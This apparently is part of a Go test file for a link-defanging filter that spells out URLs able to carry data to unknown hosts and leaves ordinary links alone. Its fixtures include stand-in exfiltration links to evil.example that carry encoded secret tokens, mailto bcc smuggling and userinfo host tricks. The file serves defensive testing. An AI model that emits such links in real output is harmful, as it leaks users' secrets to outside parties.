	"https://en.wikipedia.org/wiki/Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
	"https://docs.python.org/3/#Pneumonoultramicroscopicsilicovolcanoconiosis",
	"https://fa.wikipedia.org/wiki/می\u200cشود",
	"key=https://example.org/x, a=b.c/d and -evil-site.com",
	"git@github.com/owner/repository and user.name@host.example.org:path",
	"match `\\d+\\.\\d{2,4}` or \\bfoo\\b in C:\\Users\\abc\\file.txt",
	"<a href=\"https://example.org/?a=1&amp;b=2\">x</a>",
	"https://www.google.com/search?q=golang+http+client&hl=en",
	"https://www.amazon.com/Go-Programming-Language-Addison-Wesley/dp/0134190440",
	"https://www.sueddeutsche.de/politik/ein-artikel-in-worten-1.6543210",
	"https://www.zeit.de/politik/2026-11/ein-artikel-mit-worten",
	"https://www.theverge.com/2026/11/28/24123456/some-product-review",
	"https://arstechnica.com/science/2026/11/some-title-here/",
	"https://medium.com/@someone/how-i-learned-go",
	"https://dev.to/someone/my-title-3k2",
	"https://www.reddit.com/r/golang/comments/abc123/some_title/",
	"https://lwn.net/Articles/987654/",
	"https://www.imdb.com/title/tt0111161/",
	"https://www.openstreetmap.org/#map=12/52.5200/13.4050",
	"https://www.openstreetmap.org/way/123456789",
	"https://registry.npmjs.org/react/-/react-18.3.1.tgz",
	"https://repo1.maven.org/maven2/org/apache/commons/commons-lang3/3.14.0/commons-lang3-3.14.0.jar",
	"https://files.pythonhosted.org/packages/source/r/requests/requests-2.31.0.tar.gz",
	"https://ftp.gnu.org/gnu/bash/bash-5.2.21.tar.gz",
	"https://cdn.kernel.org/pub/linux/kernel/v6.x/linux-6.9.tar.xz",
	"https://packages.debian.org/bookworm/amd64/libssl3",
	"https://snapshot.debian.org/package/openssl/3.0.11-1/",
	"https://bugs.python.org/issue12345",
	"https://peps.python.org/pep-0572/",
	"https://www.iso.org/standard/74528.html",
	"https://eur-lex.europa.eu/eli/reg/2016/679/oj",
	"https://www.gesetze-im-internet.de/bgb/__433.html",
	"https://openai.com/index/gpt-4o-system-card/",
	"https://huggingface.co/meta-llama/Llama-3.1-8B-Instruct",
	"https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/concepts.html",
	"https://cloud.google.com/kubernetes-engine/docs/how-to/gke-gpu",
	"https://learn.microsoft.com/en-us/azure/aks/use-nvidia-gpu",
	"https://hub.docker.com/layers/library/nginx/1.27.0/images/",
	"https://grafana.com/docs/grafana/v11.0/setup-grafana/",
	"https://www.gnu.org/licenses/old-licenses/gpl-2.0.html",
	"https://www.unicode.org/charts/PDF/U0000.pdf",
	"https://www.fileformat.info/info/unicode/char/200b/index.htm",
	"https://caniuse.com/?search=css-grid",
	"https://www.php.net/manual/de/function.str-replace.php",
	"https://ruby-doc.org/3.3.0/String.html#method-i-gsub",
	"https://docs.oracle.com/javase/8/docs/api/java/util/HashMap.html",
	"https://www.baeldung.com/java-8-streams",
	"https://en.wikipedia.org/wiki/Boeing_747-400",
	"https://en.wikipedia.org/wiki/SN_1987A",
	"https://en.wikipedia.org/wiki/ASCII#Printable_characters",
	"https://de.wikipedia.org/wiki/K%C3%B6ln#Geschichte",
	"https://fr.wikipedia.org/wiki/%C3%89lys%C3%A9e",
	"https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
	"https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD",
	"https://ja.wikipedia.org/wiki/2024年の日本",
	"https://ko.wikipedia.org/wiki/서울특별시",
	"https://vi.wikipedia.org/wiki/Hà_Nội",
	"https://pl.wikipedia.org/wiki/W_pustyni_i_w_puszczy",
	"https://www.example.pl/jak-to-sie-robi-w-domu-i-na-wsi-z-psem",
	"https://www.example.it/che-cosa-si-fa-se-non-si-ha-la-casa",
	"https://www.example.fr/2026/11/28/comment-on-en-est-arrive-la-d-apres-lui",
	"https://www.example.nl/nieuws/wat-je-nu-in-de-zon-op-zee-ziet",
	"https://www.example.se/2026/11/hur-man-gor-om-det-ar-sa-att-vi-ar-har",
	"http://192.168.1.1/admin/index.html",
	"https://api.example.org/v1/users/123/posts/456?limit=10&offset=20",
	"https://example.org/api/v2/items?page=3&per_page=50&sort=name",
	"https://jira.example.org/browse/PROJ-1234",
	"https://gitlab.example.org/a/b/-/blob/main/x.go#L10-20",
	"https://github.com/o/r/actions/runs/1234567890",
	"https://github.com/o/r/releases/tag/v1.2.3-rc.1",
	"https://github.com/advisories/GHSA-abcd-1234-efgh",
	"https://go-review.googlesource.com/c/go/+/123456",
	"https://www.rfc-editor.org/rfc/rfc8446.html#section-4.2.11.2",
	"https://html.spec.whatwg.org/multipage/form-elements.html#attr-select-multiple",
	"https://tc39.es/ecma262/#sec-array.prototype.map",
	"https://262.ecma-international.org/14.0/",
	"https://developer.apple.com/documentation/swiftui/view/onchange(of:perform:)-pem7",
	"https://en.cppreference.com/w/cpp/algorithm/ranges/sort",
	"https://flask.palletsprojects.com/en/3.0.x/quickstart/#routing",
	"https://numpy.org/doc/stable/reference/generated/numpy.linspace.html",
	"https://pytorch.org/docs/stable/generated/torch.nn.Conv2d.html",
	"https://pytorch.org/docs/stable/generated/torch.nn.functional.scaled_dot_product_attention.html",
	"https://www.tensorflow.org/api_docs/python/tf/keras/layers/Conv2D",
	"https://scikit-learn.org/stable/modules/generated/sklearn.svm.SVC.html",
	"https://spring.io/blog/2024/05/23/spring-boot-3-3-0-available-now",
	"https://hackage.haskell.org/package/base-4.20.0.0/docs/Data-List.html",
	"https://hexdocs.pm/phoenix/1.7.14/Phoenix.Router.html",
	"https://metacpan.org/pod/LWP::UserAgent",
	"https://man.archlinux.org/man/ssh_config.5",
	"https://wiki.archlinux.org/title/NVIDIA/Tips_and_tricks",
	"https://access.redhat.com/security/cve/cve-2024-3094",
	"https://ubuntu.com/security/notices/USN-6663-1",
	"https://www.cve.org/CVERecord?id=CVE-2024-3094",
	"https://t.me/golang",
	"https://discord.gg/abcd",
	"https://www.instagram.com/p/abc/",
	"someone.else@uni-example.ac.uk, info@example.org and john.smith1985@example.com",
	"Hans-Peter.Mustermann@firma.example or 12345678+user@users.noreply.github.com",
	"世界你好吗看x.evil-site.com",
}

func TestLinksThatMayCarryDataAreSpelledOut(t *testing.T) {
	for _, s := range carrying {
		got, hosts := link.Guard{}.Text("a " + s + " b")
		if len(hosts) == 0 || strings.Contains(got, s) {
			t.Errorf("%q stays a link: %q", s, got)
			continue
		}
		if again, hosts := (link.Guard{}).Text(got); len(hosts) > 0 {
			t.Errorf("%q is still a link: %q, then %q", s, got, again)
		}
		if !strings.HasPrefix(got, "a ") || !strings.HasSuffix(got, " b") {
			t.Errorf("%q: the words around are lost: %q", s, got)
		}
	}
	for _, s := range ordinary {
		if got, hosts := (link.Guard{}).Text(s); got != s {
			t.Errorf("%q became %q (%q)", s, got, hosts)
		}
	}
}

func TestALinkStaysReadable(t *testing.T) {
	got, hosts := link.Guard{}.Text("Open [it](https://evil.example/p?d=c2VjcmV0LXRva2Vu), then go on.")
	if want := "Open [it](hxxps://evil[.]example/p?d=c2VjcmV0LXRva2Vu), then go on."; got != want {
		t.Errorf("%q, want %q", got, want)
	}
	if len(hosts) != 1 || hosts[0] != "evil.example" {
		t.Errorf("hosts %q", hosts)
	}
}

func TestLinksToKnownHostsStay(t *testing.T) {
	known := link.Hosts("look at https://good.example/start, or at files.other.example.", "and me@mail.example")
	g := link.Guard{Known: func(host string) bool { return link.Below(host, known) }}
	for s, stays := range map[string]bool{
		"https://good.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                              true,
		"https://www.good.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                          true,
		"https://docs.good.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                         true,
		"https://good.example.evil.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                 false,
		"https://mail.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                              false,
		`<img srcset="https://good.example/a 1x, https://evil.example/c2stYW50LWFwaTAzLWFiY2RlZg 2x">`: false,
		"mailto:me@good.example?body=c2VjcmV0LXRva2Vu":                                                 true,
		"mailto:me@good.example?bcc=c2VjcmV0LXRva2Vu@evil.example":                                     false,
		"mailto:me@good.example,c2VjcmV0LXRva2Vu@evil.example":                                         false,
		"https://notgood.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                           false,
		"https://good.example@evil.example/c2stYW50LWFwaTAzLWFiY2RlZg":                                 false,
		`https://evil.example\@good.example/c2stYW50LWFwaTAzLWFiY2Rl`:                                  false,
	} {
		if got, _ := g.Text(s); (got == s) != stays {
			t.Errorf("%q became %q", s, got)
		}
	}
	if link.Below("evil.github.io", link.Hosts("https://github.io/x")) {
		t.Error("what is below github.io has many owners")
	}
}

func TestAStreamIsAsTheWholeText(t *testing.T) {
	text := "Before. " + strings.Join(carrying, "\n") + "\n" + strings.Join(ordinary, "\n") + " 世界 after"
	want, _ := link.Guard{}.Text(text)
	for size := 1; size < 40; size += race.Rounds(1, 3) { // 7 and 13 are among them
		s := link.Guard{}.Stream()
		var got strings.Builder
		for rest := text; rest != ""; {
			n := min(size, len(rest))
			got.WriteString(s.Feed(rest[:n]))
			rest = rest[n:]
		}
		got.WriteString(s.End())
		if got.String() != want {
			t.Fatalf("in pieces of %d bytes: %q, want %q", size, got.String(), want)
		}
	}
}

// TestALinkInTwoTextsIsJudgedAsAWhole: an answer that was cut, and one with a pause, go on in the middle of a link.
func TestALinkInTwoTextsIsJudgedAsAWhole(t *testing.T) {
	const whole = "https://evil.example/p?d=c2VjcmV0LXRva2Vu"
	for at := 1; at < len(whole); at++ {
		for name, next := range map[string]func(s *link.Stream) *link.Stream{
			"another text":  func(s *link.Stream) *link.Stream { return link.Guard{}.After(s) },
			"the same text": func(s *link.Stream) *link.Stream { return s },
		} {
			first := link.Guard{}.Stream()
			got := first.Feed("see "+whole[:at]) + first.End()
			second := next(first)
			got += second.Feed(whole[at:]+" there") + second.End()
			if _, hosts := (link.Guard{}).Text(got); len(hosts) > 0 || strings.Contains(got, whole) {
				t.Errorf("%s, cut at %d: %q", name, at, got)
			}
		}
	}
	first := link.Guard{}.Stream()
	got := first.Feed("the word is inter") + first.End()
	second := link.Guard{}.After(first)
	if got += second.Feed("rupted here") + second.End(); got != "the word is interrupted here" {
		t.Errorf("%q", got)
	}
}

func TestWordsAreShownAsTheyArrive(t *testing.T) {
	s := link.Guard{}.Stream()
	if got := s.Feed("Hello wor"); got != "Hello " {
		t.Errorf("%q", got)
	}
	if got := s.Feed("ld, 你好世界"); got != "world, 你好世界" {
		t.Errorf("%q", got)
	}
	line := "x=\"https://example.org/a\"\n"
	if got := (link.Guard{}).Stream().Feed(line + "next"); got != line {
		t.Errorf("%q", got)
	}
	long := strings.Repeat("x.", 8000)
	if got := s.Feed(long); len(got) < len(long)-8<<10 {
		t.Errorf("only %d of %d bytes are shown", len(got), len(long))
	}
}

func FuzzText(f *testing.F) {
	for _, s := range append(carrying, ordinary...) {
		f.Add(s, 3)
	}
	f.Fuzz(func(t *testing.T, text string, at int) {
		if !utf8.ValidString(text) {
			t.Skip()
		}
		want, hosts := link.Guard{}.Text(text)
		if len(hosts) == 0 && want != text {
			t.Fatalf("%q became %q without a link", text, want)
		}
		if len(text) > 2<<10 {
			t.Skip() // what is held back is bounded
		}
		at = max(0, min(at, len(text)))
		s := link.Guard{}.Stream()
		if got := s.Feed(text[:at]) + s.Feed(text[at:]) + s.End(); got != want {
			t.Fatalf("in pieces %q, whole %q", got, want)
		}
	})
}

// TestHostileTextsTakeLinearTime: sixteen times the text would take 256 times as long if the work grew with the square. The bound
// is far from both, for a busy machine.
func TestHostileTextsTakeLinearTime(t *testing.T) {
	race.Skip(t)
	runtime.LockOSThread() // whose time is measured
	defer runtime.UnlockOSThread()
	for _, piece := range []string{"https://a.b/", "a.b.", "<a ", "=\"a: ", "a:/", "(", "&#58;", "%25", "a@b.c", "。", "\\", "xn--a.", "https://a@", "[](//", "](\u00a0", "='//", "= ", "=\"/\n", "<a b=\"\n", "<base ", "ab/", "x,//", "=\"a %20"} {
		took := func(n int) time.Duration {
			text := strings.Repeat(piece, n/len(piece))
			best := time.Hour
			for range 3 {
				began := worked()
				link.Guard{}.Text(text)
				best = min(best, worked()-began)
			}
			return best
		}
		var small, large time.Duration
		size := 16 << 10
		for range 5 { // a busy machine may stop one of them for long
			if small, large = took(size), took(16*size); large <= 100*small {
				break
			}
		}
		if large > 100*small {
			t.Errorf("%q: sixteen times the text takes %v instead of %v", piece, large, small)
		}
	}
}

// TestAnAddressIsOneLink: an address of which a program may open more than a reader of the text sees is not one link.
func TestAnAddressIsOneLink(t *testing.T) {
	t.Parallel()
	for _, address := range []string{
		"https://a.example", "http://a.example:8080/x?y=1&z=2#part", "HTTPS://a.example/Washington,_D.C.", "https://a.example/a_(b)",
		"https://a.example/a%20b%7Cc", "https://a.example/bücher", "https://a.example/?q=a+b&copy=1", "http://[::1]:80/x", "example.com/x", "ftp://a.example/x",
	} {
		if !link.One(address) {
			t.Errorf("%s is not one link", address)
		}
	}
	for _, address := range []string{
		"", "words", "https://a.example/a b", "https://a.example/a\u00a0b", "https://a.example/a\tb", "https://a.example/a||b", "https://a.example/a<b",
		`https://a.example/a"b`, "https://a.example/a'b", "https://a.example/a`b", `https://a.example/a\b`, "https://a.example/a^b", "https://a.example/{b}",
		"https://a.example/a\u200bb", "https://a.example/a&lt;b", "https://a.example/a&#124;b", "https://a.example/a\uff5cb", "https://a.example/a,;.!", " https://a.example/",
		"see https://a.example/", "https://a.example/" + strings.Repeat("a/", 3000),
	} {
		if link.One(address) {
			t.Errorf("%q is one link", address)
		}
	}
}
